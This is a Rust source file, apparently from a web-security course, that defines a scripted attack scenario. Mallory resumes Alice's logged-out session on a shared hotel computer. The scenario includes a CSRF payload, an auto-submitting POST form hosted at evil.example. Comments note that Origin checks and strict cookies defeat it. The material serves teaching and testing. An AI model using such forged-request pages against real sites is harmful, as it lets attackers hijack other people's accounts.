// Breaks 3: does not win
// A page of Mallory's presses the button. Whoever looks at `Origin` refuses that, and a strict cookie is not sent with it.

/// The attack, in the notation of the course: TOML between `+++`, then a section for each step.
pub fn attack() -> &'static str {
    r#"+++
title = "Go on as Alice"
family = "shared computer"
promise = "Alice logs out at the computer in the lobby. Mallory sits down there, and goes on as Alice."
won_when = "mallory sees {{secret}}"
story = "Mallory went on as Alice without her password: the hotel had kept who was here last"
+++

## Alice logs in at the lobby's computer, and out again

```act as=alice
open {{target.login}}
{{target.log_in.alice}}
=> body contains {{secret}}
{{target.log_out}}
open {{target.account}}
=> body lacks {{secret}}
```

## Mallory has a page

```html site=evil path=/again
<form method="post" action="{{target}}/again"><button>Go on</button></form>
<script>document.forms[0].submit()</script>
```

## She opens it at the lobby's computer

```act as=mallory at=alice
open https://evil.example/again
open {{target.account}}
=> body contains {{secret}}
```
"#
}
